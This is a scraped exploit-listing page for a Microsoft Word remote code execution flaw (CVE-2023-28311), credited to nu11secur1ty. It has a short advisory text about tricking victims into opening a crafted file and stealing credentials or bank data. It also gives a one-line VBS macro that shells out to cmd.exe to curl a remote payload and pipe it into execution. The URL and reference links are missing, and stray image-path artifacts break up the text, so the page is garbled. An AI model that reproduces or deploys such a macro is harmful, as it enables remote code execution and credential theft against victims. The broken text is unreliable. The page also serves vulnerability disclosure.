Microsoft Word Remote Code Execution

Credit: nu11secur1ty
Risk: Medium
Local: No
Remote: Yes

## Title: Microsoft Word Remote Code Execution Vulnerability ## Author: nu11secur1ty ## Date: 04.14.2023 ## Vendor: ## Software: ## Reference: ## CVE-2023-28311 ## Description: The attack itself is carried out locally by a user with authentication to the targeted system. An attacker could exploit the vulnerability by convincing a victim, through social engineering, to download and open a specially crafted file from a website which could lead to a local attack on the victim's computer. The attacker can trick the victim to open a malicious web page by using a `Word` malicious file and he can steal credentials, bankaccounts information, sniffing and tracking all the traffic of the victim without stopping -it depends on the scenario and etc. STATUS: HIGH Vulnerability [+]Exploit: The exploit server must be BROADCASTING at themoment when the victim hit the button of the exploit! ```vbs Call Shell("cmd.exe /S /c" & "curl -s | tarator", vbNormalFocus) ``` ## Reproduce: [href]( ## Reference: [href]( [href]( ## Proof and Exploit [href]( ## Time spend: 01:00:00

Vote for this issue:


Thanks for you vote!


Thanks for you comment!Your message is in quarantine 48 hours.

Comment it here.

(*) - required fields.
{{ x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux *1000 | date:'HH:mm' }} CET+1
{{ x.comment }}Copyright 2023,


Back to Top